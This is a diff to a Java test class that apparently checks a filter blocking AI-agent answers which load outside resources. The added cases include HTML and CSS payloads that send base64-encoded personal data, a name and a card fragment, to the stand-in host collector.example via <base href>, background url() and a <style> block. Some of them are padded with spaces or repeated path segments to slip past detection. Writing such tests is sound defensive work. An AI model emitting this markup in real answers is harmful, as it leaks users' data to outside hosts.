@@ -457,7 +457,10 @@ class AgentPresetTest {
                 "<iframe" + longAlt + " src=\"" + u + "\"></iframe>",
                 "<link rel=\"stylesheet\" href=\"" + u + "\">",
                 "<audio src='" + u + "'></audio>",
-                "<table background=\"" + u + "\"><tr><td>x</td></tr></table>",
+                "<base href=\"https://collector.example/QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ/\"><img src=\"p.png\">",
+                "<div style=\"background:url(" + " ".repeat(70) + u + ")\">x</div>",
+                "<style>body{background:url(https://collector.example/" + "assets/".repeat(30) + "p.png?d="
+                        + "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)}</style>",
                 "<svg><use href=\"" + u + "#icon\"/></svg>",
                 "<object data=\"" + u + "\"></object>",
                 "<EMBED SRC=" + u + ">",
@@ -479,7 +482,10 @@ class AgentPresetTest {
                 "<video src=\"https://cdn.example.com/v.mp4\" poster=\"https://cdn.example.com/p.png\"></video>",
                 "Use a List<Object> or a Map<String, Table> here; <td>cell</td> and <th>head</th>.",
                 "The <link> element and <input> fields are described at https://developer.example.org/docs/link.",
-                "See url(https://cdn.example.com/bg.png) in the stylesheet.")) {
+                "See url(https://cdn.example.com/bg.png) in the stylesheet.",
+                // the legacy background attribute's tables and cells are not read: prose about them holds nothing
+                "Use a <table only for tabular data, and <td or <th for its cells.\n\n"
+                        + "The quarterly numbers look steady and the team is on track for the launch. ".repeat(70))) {
             assertAnswerPasses(answer);
             StreamOutcome out = stream(answer, 5);
             assertThat(out.blocked()).as(answer).isNull();
